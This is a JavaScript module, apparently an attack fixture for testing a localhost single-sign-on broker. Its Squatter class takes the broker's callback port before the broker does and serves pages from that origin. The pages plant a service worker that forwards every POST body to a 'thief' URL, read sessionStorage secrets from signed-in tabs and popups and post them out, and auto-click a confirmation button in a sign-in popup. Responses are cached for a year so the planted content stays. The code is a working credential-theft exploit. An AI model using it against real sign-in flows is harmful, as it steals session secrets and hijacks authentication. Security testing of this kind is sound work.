// A program that held the callback's port before the broker: its pages have the callback's origin, and what they
// leave in the browser stays when the program is gone.
import { createServer } from 'node:http'
import { once } from 'node:events'

// A service worker that tells the thief what is posted to the origin.
const worker = (thief) => `
  addEventListener('install', (event) => event.waitUntil(skipWaiting()))
  addEventListener('activate', (event) => event.waitUntil(clients.claim()))
  addEventListener('fetch', (event) => {
    if (event.request.method !== 'POST') return
    const copy = event.request.clone()
    event.waitUntil(copy.text().then((body) => fetch('${thief}', { method: 'POST', mode: 'no-cors', body })))
  })`

const register = `
  navigator.serviceWorker.register('/worker.js', { updateViaCache: 'all' })
    .then(() => navigator.serviceWorker.ready)
    .then(() => { document.body.dataset.ksbState = 'planted' },
      (error) => { document.body.textContent = error; document.body.dataset.ksbState = 'not-planted' })`

// A page that, once the broker has the port, has its origin: it takes the secret of a proven tab, and answers for
// the person in a popup. The token to use comes with the link.
const accomplice = (thief) => `
  const tell = (body) => fetch('${thief}', { method: 'POST', mode: 'no-cors', body })
  tell('secret ' + sessionStorage.getItem('ksb'))
  document.body.innerHTML = '<h1>Click me</h1><form method=post action=/auth/websso/ target=won><input name=token></form>'
  document.body.dataset.ksbState = 'accomplice'
  onclick = () => {
    const popup = open('', 'won')
    document.querySelector('input').value = location.hash.slice(1)
    document.forms[0].submit()
    setInterval(() => {
      if (popup.document.body?.dataset.ksbState === 'confirm') popup.document.getElementById('ksb-accept').click()
    }, 50)
  }`

// A page that is still open when the broker has the port. It opens the sign-in itself, the link being known, and reads
// the secret in what it opened.
const lingering = (thief) => `
  document.body.innerHTML = '<h1>Click me</h1>'
  document.body.dataset.ksbState = 'lingering'
  onclick = () => {
    const popup = open(location.hash.slice(1))
    const timer = setInterval(() => {
      let secret
      try { secret = popup.sessionStorage.getItem('ksb') } catch {}
      if (secret) { clearInterval(timer); fetch('${thief}', { method: 'POST', mode: 'no-cors', body: 'secret ' + secret }) }
    }, 5)
  }`

export class Squatter {
  #servers = []

  constructor (port, thief) {
    const html = (script) => `<!doctype html><meta charset="utf-8"><meta name="referrer" content="no-referrer"><title>left behind</title><body><script>${script}</script>`
    this.pages = {
      '/plant': ['text/html', html(register)],
      '/accomplice': ['text/html', html(accomplice(thief))],
      '/lingering': ['text/html', html(lingering(thief))],
      '/worker.js': ['text/javascript', worker(thief)],
      '/auth/websso/': ['text/html', html("document.body.dataset.ksbState = 'taken'")]
    }
    this.port = port
    this.origin = `http://localhost:${port}`
  }

  async open () {
    for (const host of ['127.0.0.1', '::1']) {
      const server = createServer((request, response) => {
        const [type, body] = this.pages[request.url.replace(/#.*/, '')] ?? []
        request.resume()
        // Kept for a year, in the hope to be there when the broker is.
        response.writeHead(body ? 200 : 404, { 'content-type': type ?? 'text/plain', 'cache-control': 'max-age=31536000, immutable' })
        response.end(body ?? '')
      })
      server.listen(this.port, host)
      await Promise.race([once(server, 'listening'), once(server, 'error')])
      this.#servers.push(server)
    }
    return this
  }

  async close () {
    for (const server of this.#servers) {
      server.closeAllConnections()
      if (server.listening) await new Promise((resolve) => server.close(resolve))
    }
  }
}
